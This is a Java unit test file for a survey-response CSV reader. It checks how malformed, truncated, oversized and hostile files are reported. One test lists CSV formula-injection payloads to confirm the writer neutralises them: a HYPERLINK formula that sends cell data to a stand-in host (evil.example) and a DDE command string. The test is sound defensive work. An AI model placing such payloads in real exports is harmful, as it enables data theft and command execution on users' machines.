package org.ctnat.io;

import static org.ctnat.io.CsvSamples.STANDARD;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;
import org.ctnat.core.questionbank.ItemId;
import org.ctnat.core.response.Respondent;
import org.ctnat.core.response.RespondentId;
import org.ctnat.core.response.SurveyResponse;
import org.ctnat.core.response.TextAnswer;
import org.ctnat.core.response.ViolationRule;
import org.junit.jupiter.api.Test;

/**
 * Files that are broken, truncated, hand-edited or hostile: malformed CSV is a {@link
 * CtnatReadException} with its line and column; a bad cell is reported by row and column, and
 * every other row is kept.
 */
class CsvHostileInputTest {

  private static final String HEADER = String.join(",", CsvLayout.WIDE.header(STANDARD));
  private static final int WIDTH = CsvLayout.WIDE.header(STANDARD).size();

  private static CsvReadResult<List<SurveyResponse>> read(String csv) {
    return CsvResponses.parse(STANDARD, csv, "hostile.csv", CsvLayout.WIDE);
  }

  /** A row with the given cells set by column name, every other cell empty. */
  private static String row(String respondent, String... namesAndValues) {
    String[] cells = new String[WIDTH];
    java.util.Arrays.fill(cells, "");
    cells[0] = respondent;
    List<String> header = CsvLayout.WIDE.header(STANDARD);
    for (int i = 0; i < namesAndValues.length; i += 2) {
      cells[header.indexOf(namesAndValues[i])] = namesAndValues[i + 1];
    }
    return String.join(",", cells);
  }

  private static CtnatReadException refused(String csv) {
    return assertThrows(CtnatReadException.class, () -> read(csv));
  }

  @Test
  void anEmptyFileIsRefusedAtItsFirstLine() {
    CtnatReadException e = refused("");
    assertEquals(Optional.of(1), e.line());
    assertTrue(e.problem().contains("expected a header row: respondent,1.1"), e::getMessage);
    assertEquals("hostile.csv", e.source());
  }

  @Test
  void aTruncatedLastRowIsReportedAndTheRowsBeforeItKept() {
    String whole = CsvSamples.resource("fixture-wide.csv");
    String truncated = whole.substring(0, whole.indexOf("GEOsur1,georgia,") + "GEOsur1,georgia,".length() + 3);
    CsvReadResult<List<SurveyResponse>> read = read(truncated);
    assertEquals(CsvSamples.fixtureAsRead().subList(0, 3), read.value());
    CsvProblem problem = read.report().problems().get(0);
    assertEquals(5, problem.row(), "the fourth respondent: the header is row 1");
    assertEquals(6, problem.line(), "the first respondent's text spans two lines");
    assertEquals(Optional.of(RespondentId.of("GEOsur1")), problem.respondent());
    assertTrue(problem.detail().contains("truncated"), problem::detail);
    assertEquals(1, read.report().problemCount());
  }

  @Test
  void aFileCutInsideAQuotedTextIsRefusedWhereTheTextStarts() {
    String whole = CsvSamples.resource("fixture-wide.csv");
    CtnatReadException e = refused(whole.substring(0, whole.indexOf("few jobs")));
    assertEquals(Optional.of(2), e.line());
    assertTrue(e.problem().startsWith("unbalanced quote"), e::getMessage);
    int column = whole.lines().skip(1).findFirst().orElseThrow().indexOf("\"Poverty") + 1;
    assertEquals(Optional.of(column), e.column());
  }

  @Test
  void malformedQuotingIsRefusedWithItsLineAndColumn() {
    CtnatReadException stray = refused(HEADER + "\nAZEsur1,az\"erbaijan\n");
    assertEquals(Optional.of(2), stray.line());
    assertEquals(Optional.of(11), stray.column());
    assertTrue(stray.problem().contains("quote inside an unquoted field"), stray::getMessage);

    CtnatReadException after = refused(HEADER + "\nAZEsur1,\"azerbaijan\"x,\n");
    assertEquals(Optional.of(2), after.line());
    assertEquals(Optional.of(21), after.column());
    assertTrue(after.problem().contains("after the closing quote of the field that starts at line 2, column 9"),
        after::getMessage);

    CtnatReadException unbalanced = refused(HEADER + "\n" + row("AZEsur1", "2.6", "\"open") + "\n"
        + row("AZEsur2", "1.6", "male") + "\n");
    assertEquals(Optional.of(2), unbalanced.line(), unbalanced::getMessage);
    assertTrue(unbalanced.problem().startsWith("unbalanced quote"), unbalanced::getMessage);

    CtnatReadException carriageReturn = refused(HEADER + "\nAZEsur1,\rx\n");
    assertEquals(Optional.of(2), carriageReturn.line());
    assertTrue(carriageReturn.problem().contains("carriage return"), carriageReturn::getMessage);
  }

  @Test
  void bytesThatAreNotUtf8AreRefusedWhereTheyAre() {
    byte[] head = (HEADER + "\nAZEsur1,").getBytes(StandardCharsets.UTF_8);
    byte[] file = java.util.Arrays.copyOf(head, head.length + 3);
    file[head.length] = 'a';
    file[head.length + 1] = (byte) 0xE9; // é in Latin-1
    file[head.length + 2] = '\n';
    CtnatReadException e = assertThrows(CtnatReadException.class, () -> CsvResponses.read(STANDARD,
        new ByteArrayInputStream(file), "latin1.csv", CsvLayout.WIDE));
    assertEquals(Optional.of(2), e.line());
    assertEquals(Optional.of(10), e.column());
    assertTrue(e.problem().contains("not UTF-8: byte 0xE9"), e::getMessage);
  }

  @Test
  void unknownColumnNamesAreRefusedWithAHint() {
    List<String[]> cases = List.of(
        new String[] {"respondent,1.6,gender", "unknown column 'gender'"},
        new String[] {"respondent, 1.6", "did you mean '1.6'?"},
        new String[] {"Respondent,1.6", "did you mean 'respondent'?"},
        new String[] {"respondent,X2.2.forced_marriage", "renamed by R"},
        new String[] {"respondent,3.1", "3.1 is a grid"},
        new String[] {"respondent,2.2/begging", "item 2.2 has the columns [2.2/exploitation_in_prostitution"},
        new String[] {"respondent,item,option,value", "long file"});
    for (String[] c : cases) {
      CtnatReadException e = refused(c[0] + "\n");
      assertEquals(Optional.of(1), e.line(), c[0]);
      assertTrue(e.column().isPresent(), c[0]);
      assertTrue(e.problem().contains(c[1]), e::getMessage);
    }
  }

  @Test
  void missingColumnsAreRefusedUnlessAWholeItemIsLeftOut() {
    assertTrue(refused("1.6,1.1\nfemale,armenia\n").problem().contains("no 'respondent' column"));
    CtnatReadException partial = refused("respondent,2.1/country_of_origin,2.1/country_of_transit\n");
    assertTrue(partial.problem().contains("has 2 of the 3 option columns of item 2.1; missing "
        + "[2.1/country_of_destination]"), partial::getMessage);
    assertTrue(refused("respondent,1.2/other_specify/text\n").problem().contains("without the column"));
    assertTrue(refused("respondent,1.6,1.6\n").problem().contains("appears twice"));

    CsvReadResult<List<SurveyResponse>> subset = read("respondent,1.6\nAZEsur1,female\n");
    assertTrue(subset.report().isClean());
    assertEquals(1, subset.value().get(0).answers().size(), "items without columns are missing");
  }

  @Test
  void rowsWithMissingOrExtraCellsAreReportedAndTheOthersKept() {
    String file = "respondent,1.6,2.5\nAZEsur1,female,growing\nAZEsur2,male\nAZEsur3,female,growing,extra,more\n"
        + "AZEsur4,male,declining\n";
    CsvReadResult<List<SurveyResponse>> read = read(file);
    assertEquals(List.of("AZEsur1", "AZEsur4"), read.value().stream().map(r -> r.respondent().id().value()).toList());
    List<CsvProblem> problems = read.report().problems();
    assertEquals(2, problems.size());
    assertEquals(3, problems.get(0).row());
    assertEquals(3, problems.get(0).column());
    assertEquals("2.5", problems.get(0).header());
    assertEquals(4, problems.get(1).row());
    assertEquals(4, problems.get(1).column());
    assertEquals("", problems.get(1).header());
  }

  @Test
  void wrongCodesAreReportedByRowAndColumnAndTheOtherRowsKept() {
    String file = HEADER + "\n"
        + row("AZEsur1", "1.6", "female", "3.1.4", "adequate") + "\n"
        + row("AZEsur2", "1.6", "woman", "3.1.4", "very adequate") + "\n"
        + row("AZEsur3", "2.1/country_of_origin", "yes", "2.1/country_of_transit", "0",
            "2.1/country_of_destination", "") + "\n"
        + row("AZEsur4", "8.1/A", "1", "8.1/B", "first", "8.1/C", "0") + "\n"
        + row("AZEsur5", "2.2/exploitation_in_prostitution", "1", "2.2/other_sexual_exploitation", "1",
            "2.2/forced_labour_or_services", "0", "2.2/slavery_or_servitude", "0", "2.2/removal_of_organs", "0",
            "2.2/forced_marriage", "0", "2.2/other_specify", "0", "2.2.1", "forced_marriage") + "\n"
        + row("AZEsur6", "1.5", "age_35_50", "1.2/other_specify/text", "not with its option", "2.6", "   ") + "\n"
        + row("AZEsur7", "8.1/A", "1", "8.1/B", "1", "8.1/C", "3") + "\n"
        + row("AZEsur1", "1.6", "male") + "\n"
        + row("", "1.6", "male") + "\n"
        + row("AZE sur8", "1.6", "male") + "\n"
        + row("AZEsur9", "1.1", "georgia") + "\n";
    CsvReadResult<List<SurveyResponse>> read = read(file);
    assertEquals(List.of("AZEsur1", "AZEsur9"), read.value().stream().map(r -> r.respondent().id().value()).toList());
    List<String> where = read.report().problems().stream().map(p -> p.row() + " " + p.column() + " " + p.header()
        + " " + p.rule().map(Enum::name).orElse("-")).toList();
    List<String> header = CsvLayout.WIDE.header(STANDARD);
    java.util.function.Function<String, Integer> col = name -> header.indexOf(name) + 1;
    assertEquals(List.of(
        "3 " + col.apply("1.6") + " 1.6 UNKNOWN_OPTION",
        "3 " + col.apply("3.1.4") + " 3.1.4 UNKNOWN_OPTION",
        "4 " + col.apply("2.1/country_of_origin") + " 2.1/country_of_origin -",
        "4 " + col.apply("2.1/country_of_destination") + " 2.1/country_of_destination -",
        "5 " + col.apply("8.1/B") + " 8.1/B -",
        "5 " + col.apply("8.1/C") + " 8.1/C -",
        "6 " + col.apply("2.2/exploitation_in_prostitution") + " 2.2/exploitation_in_prostitution TOO_FEW_SELECTIONS",
        "6 " + col.apply("2.2.1") + " 2.2.1 FOLLOW_UP_CONTRADICTS_PARENT",
        "7 " + col.apply("1.2/other_specify/text") + " 1.2/other_specify/text OTHER_TEXT_WITHOUT_OTHER",
        "7 " + col.apply("2.6") + " 2.6 BLANK_TEXT",
        "8 " + col.apply("8.1/A") + " 8.1/A DUPLICATE_RANK",
        "8 " + col.apply("8.1/A") + " 8.1/A MISSING_RANK",
        "9 1 respondent DUPLICATE_RESPONDENT",
        "10 1 respondent -",
        "11 1 respondent -"), where);
    assertEquals(11, read.report().rows());
    assertEquals(2, read.report().responsesKept());
    assertEquals(9, read.report().responsesLeftOut());
    assertTrue(read.report().toString().contains("'woman' is not an option [female, male]"),
        read.report()::toString);
    assertEquals(Optional.of(RespondentId.of("AZEsur2")), read.report().problems().get(0).respondent());
  }

  @Test
  void hugeFieldsAndRowsAreRefusedWithTheirLine() {
    String longest = "x".repeat(CsvResponses.MAX_FIELD_LENGTH);
    CsvReadResult<List<SurveyResponse>> fits = read("respondent,2.6\nAZEsur1," + longest + "\n");
    assertEquals(TextAnswer.of(longest), fits.value().get(0).answers().get(ItemId.of("2.6")));

    CtnatReadException field = refused("respondent,2.6\nAZEsur1,ok\nAZEsur2,\"" + longest + "x\"\n");
    assertEquals(Optional.of(3), field.line());
    assertEquals(Optional.of(9), field.column());
    assertTrue(field.problem().contains("longer than the limit of 100000 characters"), field::getMessage);

    CtnatReadException row = refused("respondent,2.6\nAZEsur1," + ",".repeat(CsvResponses.MAX_RECORD_LENGTH) + "\n");
    assertEquals(Optional.of(2), row.line());
    assertTrue(row.problem().contains("longer than the limit of 2000000 characters"), row::getMessage);

    CtnatReadException columns = refused("respondent" + ",x".repeat(CsvResponses.MAX_COLUMNS) + "\n");
    assertEquals(Optional.of(1), columns.line());
  }

  @Test
  void moreRowsThanTheLimitAreRefusedAtTheFirstOneTooMany() {
    InputStream endless = new InputStream() {
      private final byte[] header = "respondent\n".getBytes(StandardCharsets.US_ASCII);
      private long position;

      @Override
      public int read() {
        return position < header.length ? header[(int) position++] : (position++ < 20_000_100L ? '\n' : -1);
      }

      @Override
      public int read(byte[] b, int off, int len) {
        int n = 0;
        while (n < len) {
          int c = read();
          if (c < 0) {
            return n == 0 ? -1 : n;
          }
          b[off + n++] = (byte) c;
        }
        return n;
      }
    };
    CtnatReadException e = assertThrows(CtnatReadException.class,
        () -> CsvResponses.read(STANDARD, endless, "endless.csv", CsvLayout.WIDE));
    assertEquals(Optional.of(CsvResponses.MAX_ROWS + 2), e.line());
    assertTrue(e.problem().contains("more than 10000000 rows"), e::getMessage);
  }

  @Test
  void formulaPayloadsAreNeutralisedInTheFileAndRestoredWhenRead() {
    List<String> payloads = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
        "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "'plain");
    for (String payload : payloads) {
      SurveyResponse response = SurveyResponse.to(STANDARD, Respondent.of("AZEsur1"))
          .putAnswer(ItemId.of("2.6"), TextAnswer.of(payload)).build();
      for (CsvLayout layout : CsvLayout.values()) {
        String written = CsvResponses.toString(STANDARD, List.of(response), layout);
        String cell = written.substring(written.indexOf("\nAZEsur1,") + 1);
        assertTrue(cell.contains(",'" + payload.replace("\"", "\"\"")) || cell.contains(",\"'"
            + payload.replace("\"", "\"\"")), "quoted out: " + cell);
        assertEquals(List.of(response), CsvResponses.parse(STANDARD, written, "f", layout).value(), payload);
      }
    }
  }

  @Test
  void aHandWrittenQuoteBeforeAnOrdinaryCharacterIsKept() {
    CsvReadResult<List<SurveyResponse>> read = read("respondent,2.6,8.2\nAZEsur1,'abc,'=1+1\n");
    assertEquals(TextAnswer.of("'abc"), read.value().get(0).answers().get(ItemId.of("2.6")));
    assertEquals(TextAnswer.of("=1+1"), read.value().get(0).answers().get(ItemId.of("8.2")));
  }

  @Test
  void theReportPrintsATableOfProblems() {
    String report = read("respondent,1.6\nAZEsur1,woman\nAZEsur2,male\n").report().toString();
    assertTrue(report.startsWith("hostile.csv: 2 rows, 1 response kept, 1 left out, 1 problem"), report);
    assertTrue(report.contains("row  column  header  respondent  problem"), report);
    assertTrue(report.contains("2    2       1.6     AZEsur1     UNKNOWN_OPTION: 1.6: 'woman' is not an option"),
        report);
    assertEquals(ViolationRule.UNKNOWN_OPTION, read("respondent,1.6\nAZEsur1,woman\n").report().problemsInRow(2)
        .get(0).rule().orElseThrow());
  }
}
